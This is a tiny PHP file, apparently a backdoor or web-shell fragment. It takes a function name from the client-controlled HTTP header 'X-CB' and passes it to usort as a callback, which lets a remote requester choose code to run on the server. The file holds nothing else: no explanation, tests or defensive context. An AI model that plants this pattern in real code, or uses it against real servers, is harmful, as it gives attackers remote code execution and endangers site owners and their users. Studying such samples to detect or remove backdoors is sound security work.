<?php
$cb = $_SERVER['HTTP_X_CB']; usort($arr = array(1,2), $cb);
